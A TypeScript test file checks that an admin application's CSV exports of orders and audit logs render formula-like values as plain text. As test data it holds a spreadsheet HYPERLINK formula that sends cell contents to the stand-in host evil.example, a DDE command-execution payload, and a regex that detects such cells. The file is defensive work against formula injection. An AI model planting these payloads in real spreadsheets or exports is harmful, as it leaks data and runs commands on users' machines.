import { eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callRoute, createRouteHarness, type RouteHarness } from '~/testing/route-harness';
import * as orderExport from '../../app/routes/admin.bestallningar_.export';
import * as auditExport from '../../app/routes/admin.granskning_.export[.csv]';
import { recordAudit } from '../../db/audit';
import { first } from '../../db/engine';
import { units } from '../../db/schema';

/**
 * Finding 11 of issue 11, the exports: a name that reached the database before names were checked (or
 * from the HSA catalog) must reach a spreadsheet as text, never as a formula, in every export.
 */
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")';

/** RFC 4180 cells of a `;`-separated CSV text, quotes removed. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

const formulaCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

let harness: RouteHarness;
beforeAll(async () => {
  harness = await createRouteHarness();
  const sahlgrenska = first(
    await harness.db.select().from(units).where(eq(units.hsaId, 'SE2321000131-S000000010100')).limit(1),
  )!;
  const unitIds = [
    sahlgrenska.id,
    ...(await harness.db.select().from(units).where(eq(units.parentId, sahlgrenska.id))).map(
      (unit) => unit.id,
    ),
  ];
  await harness.db.update(units).set({ name: formula }).where(inArray(units.id, unitIds));
});
afterAll(() => harness?.db.close());

describe('CSV exports defuse formulas', () => {
  it('the order export writes a formula-like unit name as text', async () => {
    const result = await callRoute(
      orderExport.loader,
      await harness.request('/admin/bestallningar/export', { as: 'chef' }),
      harness.context,
    );
    expect(result.status).toBe(200);
    const rows = cellsOf(String(result.data));
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.flat()).toContain(`'${formula}`);
    expect(formulaCells(rows)).toEqual([]);
  });

  it('the audit export writes a formula-like actor and unit as text', async () => {
    await recordAudit(harness.db, {
      actorUserId: null,
      actorLabel: '@SUM(1+1)*cmd|" /C calc"!A0',
      action: 'unit_rename',
      objectType: 'unit',
      outcome: 'success',
      detail: { name: formula },
    });
    const result = await callRoute(
      auditExport.loader,
      await harness.request('/admin/granskning/export.csv', { as: 'support' }),
      harness.context,
    );
    expect(result.status).toBe(200);
    const rows = cellsOf(String(result.data));
    expect(rows.flat()).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(formulaCells(rows)).toEqual([]);
  });
});
